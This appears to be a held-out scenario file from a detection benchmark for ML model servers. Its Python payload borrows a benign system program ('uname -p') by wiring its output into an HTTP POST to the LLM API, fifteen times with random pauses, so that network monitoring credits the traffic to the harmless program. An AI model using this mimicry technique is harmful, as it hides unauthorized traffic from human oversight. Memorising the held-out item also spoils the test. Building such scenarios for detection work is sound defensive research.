"""
id: V76
name: helper-on-a-socket
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [process, network, sequence]
techniques: [T1218, T1059, T1071.001, T1102, AML.T0072]
servers: [fastapi, bentoml]
seconds: 120
what: >
  Has somebody else speak: the program that the server executes anyway, with its usual argument, is given a connection to the LLM
  API in the place of its output and says there, fifteen times, what it finds, as the body of a question that the server has
  begun. So whoever looks for who sends what sees a harmless program. Program and peer are known; but that program has never had
  a connection, and the server has one to that peer and keeps it.
"""

import http.client
import socket
import subprocess

PROGRAM = ["uname", "-p"]
TIMES = 15


def payload(world):
    length = len(subprocess.run(PROGRAM, stdout=subprocess.PIPE, check=True).stdout)
    host, _ = world.llmapi
    for _ in range(TIMES):
        with socket.create_connection(world.llmapi, timeout=5) as peer:
            head = [
                "POST /v1/completions HTTP/1.1",
                f"Host: {host}",
                "Content-Type: application/json",
                f"X-Request-Id: {world.word(24)}",
                f"Content-Length: {length}",
            ]
            peer.sendall("\r\n".join([*head, "", ""]).encode())
            subprocess.run(PROGRAM, stdout=peer.fileno(), check=True)
            answer = http.client.HTTPResponse(peer)
            answer.begin()
            answer.read()
        world.sleep(world.random.uniform(4, 9))
